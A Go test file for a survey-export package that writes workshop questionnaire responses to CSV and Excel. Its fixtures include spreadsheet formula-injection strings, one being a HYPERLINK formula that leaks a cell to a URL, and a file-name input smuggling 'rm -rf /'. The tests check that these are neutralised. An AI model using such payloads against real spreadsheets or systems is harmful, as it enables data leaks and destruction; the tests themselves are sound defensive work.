package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"declic/surveys"
	"declic/surveys/surveystest"
)

func testQuestionnaire() *surveys.Questionnaire {
	return &surveys.Questionnaire{
		Title: surveys.NewText("Regards sur le monde"),
		Items: []surveys.Item{
			{Key: "q1", Type: surveys.Likert, Text: surveys.NewText("Je m'intéresse aux autres pays."), Scale: &surveys.Range{Min: 1, Max: 5, Labels: surveystest.Texts("Pas du tout d'accord", "", "", "", "Tout à fait d'accord")}},
			{Key: "q2", Type: surveys.Likert, Text: surveys.NewText("Les autres cultures me mettent mal à l'aise."), Scale: &surveys.Range{Min: 1, Max: 5}, Reverse: true},
			{Key: "r1", Type: surveys.Rating, Text: surveys.NewText("Ton humeur, de -2 à 2"), Scale: &surveys.Range{Min: -2, Max: 2}},
			{Key: "k1", Type: surveys.Quiz, Text: surveys.NewText("Combien d'ODD ?"), Options: []surveys.Option{{Value: "a", Label: surveys.NewText("8")}, {Value: "b", Label: surveys.NewText("17")}}, Correct: "b"},
			{Key: "y1", Type: surveys.YesNo, Text: surveys.NewText("As-tu voyagé ?")},
			{Key: "c1", Type: surveys.Select, Text: surveys.NewText("Thèmes ?"), Multiple: true, Options: []surveys.Option{{Value: "climat", Label: surveys.NewText("Le climat")}, {Value: "droits", Label: surveys.NewText("=Les droits")}}},
			{Key: "t1", Type: surveys.FreeText, Text: surveys.NewText("Qu'as-tu retenu ?"), Phases: []surveys.Phase{surveys.PhasePost}},
		},
		Scales: []surveys.Scale{{Key: "ouverture", Title: surveys.NewText("Ouverture aux autres"), Items: []string{"q1", "q2"}}},
	}
}

var (
	day1 = "2026-03-12"
	day2 = "2026-03-12"
)

func testWorkshops() []*surveys.Workshop {
	return []*surveys.Workshop{
		{ID: "w1", Code: "ABC234", Title: "Atelier « Vivre ensemble » — Lille", Date: "2026-03-12", Partner: "Collège Jean-Macé; Roubaix", Group: "4e B", Place: "Salle 12", Tags: []string{"odd", "programme-2026"}},
		{ID: "w2", Code: "XYZ789", Title: "Atelier vide", Date: "2026-04-01", Partner: "Centre social", Group: "Ados"},
	}
}

// hostile are text answers a spreadsheet must never run, with what the
// export must show instead.
var hostile = []struct{ in, want string }{
	{`=HYPERLINK("http://example.org/?x="&A1,"clic")`, `'=HYPERLINK("http://example.org/?x="&A1,"clic")`},
	{"+1", "'+1"},
	{"-2", "'-2"},
	{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
	{"\tcmd", "'\tcmd"},
	{"\r=1+1", "'\r=1+1"},
}

const freeText = "ligne 1\nligne 2 « guillemets » \"cités\"; point-virgule, virgule — ça va 👍"

func testResponses() []*surveys.Response {
	rs := []*surveys.Response{
		{WorkshopID: "w1", Phase: surveys.PhasePre, Participant: "0123456789abcdef0123", Day: day1,
			Answers: surveystest.Answers(map[string]any{"q1": 2, "q2": 4, "r1": -2, "k1": "a", "y1": 0, "c1": []string{"climat", "droits"}})},
		{WorkshopID: "w1", Phase: surveys.PhasePost, Participant: "0123456789abcdef0123", Day: day2,
			Answers: surveystest.Answers(map[string]any{"q1": 5, "q2": 1, "r1": 2, "k1": "b", "y1": 1, "c1": []string{"droits"}, "t1": surveys.TextAnswer(freeText)})},
	}
	for i, h := range hostile {
		rs = append(rs, &surveys.Response{WorkshopID: "w1", Phase: surveys.PhasePost, Participant: "fedcba98765432100000" + strconv.Itoa(i), Day: day1,
			Answers: surveystest.Answers(map[string]any{"q1": 3, "q2": 3, "k1": "a", "y1": 1, "t1": surveys.TextAnswer(h.in)})})
	}
	return rs
}

func stream(rs []*surveys.Response) Responses {
	return func(yield func(*surveys.Response) error) error {
		for _, r := range rs {
			if err := yield(r); err != nil {
				return err
			}
		}
		return nil
	}
}

func testSource() Source {
	q := testQuestionnaire()
	rs := testResponses()
	b := surveys.NewResultsBuilder(q)
	for _, r := range rs {
		b.Add(r)
	}
	return Source{Questionnaire: q, Workshops: testWorkshops(), Responses: stream(rs), Results: b.Results()}
}

var wantHeader = []string{"atelier", "date", "partenaire", "groupe", "lieu", "étiquettes", "code", "phase", "jour", "participant", "exclue", "signalements", "saisie", "q1", "q2", "r1", "k1", "y1", "c1", "t1"}

// wantRows is the table both formats must hold, as CSV text.
func wantRows() [][]string {
	ws := []string{"Atelier « Vivre ensemble » — Lille", "2026-03-12", "Collège Jean-Macé; Roubaix", "4e B", "Salle 12", "odd, programme-2026", "ABC234"}
	rows := [][]string{
		append(slices.Clone(ws), "avant", "2026-03-12", "p-0123456789", "", "", "en ligne", "2", "4", "-2", "a", "0", "climat|droits", ""),
		append(slices.Clone(ws), "après", "2026-03-12", "p-0123456789", "", "", "en ligne", "5", "1", "2", "b", "1", "droits", freeText),
	}
	for _, h := range hostile {
		rows = append(rows, append(slices.Clone(ws), "après", "2026-03-12", "p-fedcba9876", "", "", "en ligne", "3", "3", "", "a", "1", "", h.want))
	}
	return rows
}

func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(data, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("CSV starts with % x, want the UTF-8 byte-order mark", data[:min(len(data), 3)])
	}
	r := csv.NewReader(bytes.NewReader(data[3:]))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse back: %v\n%s", err, data)
	}
	return recs
}

func TestWriteCSV(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, testSource()); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, buf.Bytes())
	if !slices.Equal(recs[0], wantHeader) {
		t.Errorf("header = %q, want %q", recs[0], wantHeader)
	}
	want := wantRows()
	if got := len(recs) - 1; got != len(want) {
		t.Fatalf("%d rows, want %d", got, len(want))
	}
	// With CRLF line ends encoding/csv writes a lone CR in a field as
	// nothing (and a LF as CRLF), so CRs are compared in the raw bytes.
	noCR := func(row []string) []string {
		out := make([]string, len(row))
		for i, s := range row {
			out[i] = strings.ReplaceAll(s, "\r", "")
		}
		return out
	}
	for i, w := range want {
		if !slices.Equal(recs[i+1], noCR(w)) {
			t.Errorf("row %d:\n got %q\nwant %q", i+1, recs[i+1], w)
		}
	}
	// Excel reads CRLF line ends, inside quoted text too.
	for _, s := range []string{"\r\n", "\"ligne 1\r\nligne 2", "\"'=1+1\"\r\n", ";'\tcmd\r\n", `""cités""; point-virgule`} {
		if !bytes.Contains(buf.Bytes(), []byte(s)) {
			t.Errorf("the CSV does not hold %q", s)
		}
	}
	// No day may carry a time.
	if bytes.Contains(buf.Bytes(), []byte("23:59")) || bytes.Contains(buf.Bytes(), []byte("T09")) {
		t.Errorf("the CSV holds a time of day: %s", buf.Bytes())
	}
	// The full participant hash never leaves.
	if bytes.Contains(buf.Bytes(), []byte("0123456789abcdef")) {
		t.Errorf("the CSV holds the full participant hash")
	}
}

func TestWriteCSVEmpty(t *testing.T) {
	src := testSource()
	src.Responses = stream(nil)
	src.Workshops = src.Workshops[1:]
	var buf bytes.Buffer
	if err := WriteCSV(&buf, src); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, buf.Bytes())
	if len(recs) != 1 || !slices.Equal(recs[0], wantHeader) {
		t.Errorf("empty workshop CSV = %q, want the header only", recs)
	}
}

func TestWriteStopsOnStreamError(t *testing.T) {
	boom := errors.New("store down")
	src := testSource()
	src.Responses = func(yield func(*surveys.Response) error) error {
		if err := yield(testResponses()[0]); err != nil {
			return err
		}
		return boom
	}
	if err := WriteCSV(&bytes.Buffer{}, src); !errors.Is(err, boom) {
		t.Errorf("WriteCSV err = %v, want %v", err, boom)
	}
	if err := WriteXLSX(&bytes.Buffer{}, src); !errors.Is(err, boom) {
		t.Errorf("WriteXLSX err = %v, want %v", err, boom)
	}
}

func openXLSX(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("XLSX does not open: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	if got, want := f.GetSheetList(), []string{SheetResponses, SheetDictionary, SheetResults, SheetAbout}; !slices.Equal(got, want) {
		t.Fatalf("sheets = %q, want %q", got, want)
	}
	return f
}

func mustRows(t *testing.T, f *excelize.File, sheet string, opts ...excelize.Options) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet, opts...)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// padded makes GetRows' rows, which end at their last non-empty cell, as
// long as the header.
func padded(row []string, n int) []string {
	for len(row) < n {
		row = append(row, "")
	}
	return row
}

func cellName(t *testing.T, col, row int) string {
	t.Helper()
	name, err := excelize.CoordinatesToCellName(col, row)
	if err != nil {
		t.Fatal(err)
	}
	return name
}

func TestWriteXLSXResponses(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, testSource()); err != nil {
		t.Fatal(err)
	}
	f := openXLSX(t, buf.Bytes())
	if got := f.GetActiveSheetIndex(); got != 0 {
		t.Errorf("active sheet = %d, want 0 (%s)", got, SheetResponses)
	}
	rows := mustRows(t, f, SheetResponses)
	if !slices.Equal(rows[0], wantHeader) {
		t.Errorf("header = %q, want %q", rows[0], wantHeader)
	}
	want := wantRows()
	if got := len(rows) - 1; got != len(want) {
		t.Fatalf("%d rows, want %d", got, len(want))
	}
	for i, w := range want {
		if got := padded(rows[i+1], len(w)); !slices.Equal(got, w) {
			t.Errorf("row %d:\n got %q\nwant %q", i+1, got, w)
		}
	}
	col := func(name string) int { return slices.Index(wantHeader, name) + 1 }

	// Answers are numbers, days are dates, and hostile text is a plain
	// string: never a formula.
	for _, tt := range []struct {
		col  string
		row  int
		want excelize.CellType
	}{
		{"q1", 2, excelize.CellTypeNumber},
		{"r1", 2, excelize.CellTypeNumber},
		{"y1", 3, excelize.CellTypeNumber},
		{"k1", 2, excelize.CellTypeInlineString},
		{"t1", 4, excelize.CellTypeInlineString},
		{"date", 2, excelize.CellTypeNumber},
		{"jour", 3, excelize.CellTypeNumber},
	} {
		typ, err := f.GetCellType(SheetResponses, cellName(t, col(tt.col), tt.row))
		if err != nil {
			t.Fatal(err)
		}
		if typ != tt.want && !(tt.want == excelize.CellTypeNumber && typ == excelize.CellTypeUnset) {
			t.Errorf("%s row %d: cell type %v, want %v", tt.col, tt.row, typ, tt.want)
		}
	}
	raw := mustRows(t, f, SheetResponses, excelize.Options{RawCellValue: true})
	if got := raw[1][col("jour")-1]; got != "46093" {
		t.Errorf("jour raw = %q, want the serial day 46093 (2026-03-12) with no time fraction", got)
	}
	for r := 2; r <= len(rows); r++ {
		for c := 1; c <= len(wantHeader); c++ {
			if fm, _ := f.GetCellFormula(SheetResponses, cellName(t, c, r)); fm != "" {
				t.Errorf("cell %s holds formula %q", cellName(t, c, r), fm)
			}
		}
	}

	// Header bold and frozen.
	style, err := f.GetCellStyle(SheetResponses, "A1")
	if err != nil {
		t.Fatal(err)
	}
	if s, err := f.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("header style %+v, %v: want bold", s, err)
	}
	panes, err := f.GetPanes(SheetResponses)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes = %+v, %v: want the first row frozen", panes, err)
	}
	if w, _ := f.GetColWidth(SheetResponses, "A"); w < 20 {
		t.Errorf("title column width = %v, want a readable width", w)
	}
}

func TestWriteXLSXDictionary(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, testSource()); err != nil {
		t.Fatal(err)
	}
	rows := mustRows(t, openXLSX(t, buf.Bytes()), SheetDictionary)
	q := testQuestionnaire()
	if got, want := len(rows)-1, len(q.Items)+len(q.Scales); got != want {
		t.Fatalf("%d rows, want %d (items then scales)", got, want)
	}
	byKey := map[string][]string{}
	for _, r := range rows[1:] {
		byKey[r[0]] = padded(r, len(rows[0]))
	}
	for _, tt := range []struct {
		key  string
		want []string
	}{
		{"q1", []string{"q1", "Je m'intéresse aux autres pays.", "likert", "avant, après", "1", "5", "1 = Pas du tout d'accord | 5 = Tout à fait d'accord", "", "non", "oui", "ouverture"}},
		{"q2", []string{"q2", "Les autres cultures me mettent mal à l'aise.", "likert", "avant, après", "1", "5", "", "", "oui", "oui", "ouverture"}},
		{"k1", []string{"k1", "Combien d'ODD ?", "quiz", "avant, après", "", "", "a = 8 | b = 17", "b", "non", "oui", ""}},
		{"y1", []string{"y1", "As-tu voyagé ?", "yesno", "avant, après", "0", "1", "1 = Oui | 0 = Non", "", "non", "oui", ""}},
		{"c1", []string{"c1", "Thèmes ?", "choice", "avant, après", "", "", "climat = Le climat | droits = =Les droits", "", "non", "non", ""}},
		{"t1", []string{"t1", "Qu'as-tu retenu ?", "text", "après", "", "", "", "", "non", "non", ""}},
		{"ouverture", []string{"ouverture", "Ouverture aux autres", "échelle", "avant, après", "1", "5", "moyenne de q1, q2 (inversée)", "", "", "", ""}},
	} {
		if got := byKey[tt.key]; !slices.Equal(got, tt.want) {
			t.Errorf("%s:\n got %q\nwant %q", tt.key, got, tt.want)
		}
	}
}

func TestWriteXLSXResults(t *testing.T) {
	src := testSource()
	res := src.Results
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, src); err != nil {
		t.Fatal(err)
	}
	f := openXLSX(t, buf.Bytes())
	rows := mustRows(t, f, SheetResults, excelize.Options{RawCellValue: true})
	if !slices.Equal(rows[0], resultsHeader) {
		t.Errorf("header = %q", rows[0])
	}
	if got, want := len(rows)-1, len(res.Items)+len(res.Scales); got != want || want < 5 {
		t.Fatalf("%d rows, want %d (items then scales)", got, want)
	}
	col := func(name string) int {
		i := slices.Index(resultsHeader, name)
		if i < 0 {
			t.Fatalf("no column %q", name)
		}
		return i
	}
	cell := func(row int, name string) string { return padded(rows[row], len(resultsHeader))[col(name)] }
	checkNum := func(row int, name string, want *float64) {
		t.Helper()
		got := cell(row, name)
		if want == nil {
			if got != "" {
				t.Errorf("row %d %s = %q, want an empty cell", row, name, got)
			}
			return
		}
		v, err := strconv.ParseFloat(got, 64)
		if err != nil || math.Abs(v-*want) > 1e-12 {
			t.Errorf("row %d %s = %q, want %v", row, name, got, *want)
		}
	}
	ptr := func(v float64) *float64 { return &v }
	for i, it := range res.Items {
		r := i + 1
		if got := cell(r, "clé"); got != it.Key {
			t.Errorf("row %d key = %q, want %q", r, got, it.Key)
		}
		checkNum(r, "n avant", ptr(float64(it.Pre.N)))
		checkNum(r, "moyenne avant", it.Pre.Mean)
		checkNum(r, "écart-type après", it.Post.SD)
		checkNum(r, "n appariés", ptr(float64(it.Paired.N)))
		checkNum(r, "différence moyenne (après − avant)", it.Paired.MeanDiff)
		checkNum(r, "d_z", it.Paired.EffectSizeDz)
		checkNum(r, "en progrès", ptr(float64(it.Paired.Improved)))
		if it.Paired.T != nil {
			checkNum(r, "p (t apparié)", &it.Paired.T.P)
		} else {
			checkNum(r, "p (t apparié)", nil)
		}
		if it.McNemar != nil {
			checkNum(r, "McNemar b (0 → 1)", ptr(float64(it.McNemar.B)))
			checkNum(r, "p (McNemar)", it.McNemar.P)
		} else if got := cell(r, "McNemar b (0 → 1)"); got != "" {
			t.Errorf("row %d (%s): McNemar = %q, want empty for a %s item", r, it.Key, got, it.Type)
		}
		checkNum(r, "alpha de Cronbach (avant)", nil)
	}
	// One participant answered both phases: too few for a t-test.
	if res.NPaired != 1 {
		t.Fatalf("n_paired = %d, want 1", res.NPaired)
	}
	r := len(res.Items) + 1
	if got := cell(r, "clé") + "/" + cell(r, "type"); got != "ouverture/échelle" {
		t.Errorf("scale row = %q", got)
	}
	checkNum(r, "moyenne avant", res.Scales[0].Pre.Mean)
	checkNum(r, "alpha de Cronbach (avant)", res.Scales[0].AlphaPre)
	checkNum(r, "t", nil)
	checkNum(r, "IC 95 % bas", nil)

	// Without results the sheet keeps its header.
	src = testSource()
	src.Results = nil
	buf.Reset()
	if err := WriteXLSX(&buf, src); err != nil {
		t.Fatal(err)
	}
	if rows := mustRows(t, openXLSX(t, buf.Bytes()), SheetResults); len(rows) != 1 {
		t.Errorf("no results: %d rows, want the header only", len(rows))
	}
}

func TestWriteXLSXEmptyWorkshop(t *testing.T) {
	q := testQuestionnaire()
	src := Source{Questionnaire: q, Workshops: testWorkshops()[1:], Responses: stream(nil), Results: surveys.NewResultsBuilder(q).Results()}
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, src); err != nil {
		t.Fatal(err)
	}
	f := openXLSX(t, buf.Bytes())
	if rows := mustRows(t, f, SheetResponses); len(rows) != 1 || !slices.Equal(rows[0], wantHeader) {
		t.Errorf("empty workshop responses = %q, want the header only", rows)
	}
	res := mustRows(t, f, SheetResults)
	if len(res) != 1+len(src.Results.Items)+len(src.Results.Scales) {
		t.Fatalf("results rows = %d", len(res))
	}
	// Undefined statistics are empty cells, never NaN or an error text.
	for _, row := range res[1:] {
		for i, v := range row {
			if strings.Contains(strings.ToLower(v), "nan") || strings.Contains(v, "#") {
				t.Errorf("results cell %q = %q", resultsHeader[i], v)
			}
		}
		if got := padded(row, len(resultsHeader))[slices.Index(resultsHeader, "moyenne avant")]; got != "" {
			t.Errorf("mean of no answers = %q, want empty", got)
		}
	}
}

func TestNeutralize(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"bonjour", "bonjour"},
		{"=1+1", "'=1+1"},
		{"+33 6", "'+33 6"},
		{"-", "'-"},
		{"@here", "'@here"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{" =1", " =1"},
		{"a=1", "a=1"},
		{"'déjà", "'déjà"},
	} {
		if got := Neutralize(tt.in); got != tt.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestFileName(t *testing.T) {
	for _, tt := range []struct {
		parts []string
		want  string
	}{
		{[]string{"2026-03-12", "Atelier « Vivre ensemble » — Lille"}, "declic-2026-03-12-atelier-vivre-ensemble-lille.csv"},
		{[]string{"2026-03-12", "Élèves de 4e : ça, c'est l'ÉTÉ !"}, "declic-2026-03-12-eleves-de-4e-ca-c-est-l-ete.csv"},
		{[]string{"", "\"; rm -rf /\r\n"}, "declic-rm-rf.csv"},
		{[]string{"日本"}, "declic.csv"},
		{[]string{"2026-03-12", strings.Repeat("a", 300)}, "declic-2026-03-12-" + strings.Repeat("a", 80-len("declic-2026-03-12-")) + ".csv"},
	} {
		got := FileName("csv", tt.parts...)
		if got != tt.want {
			t.Errorf("FileName(%q) = %q, want %q", tt.parts, got, tt.want)
		}
		for _, r := range got {
			if !(r >= 'a' && r <= 'z' || r >= '0' && r <= '9' || r == '-' || r == '.') {
				t.Errorf("FileName(%q) = %q: character %q is not ASCII-safe", tt.parts, got, r)
			}
		}
		if len(got) > 100 {
			t.Errorf("FileName(%q) is %d bytes long, want 100 at most", tt.parts, len(got))
		}
	}
}

func TestPseudonym(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"ab", "p-ab"},
		{"0123456789abcdef", "p-0123456789"},
	} {
		if got := Pseudonym(tt.in); got != tt.want {
			t.Errorf("Pseudonym(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
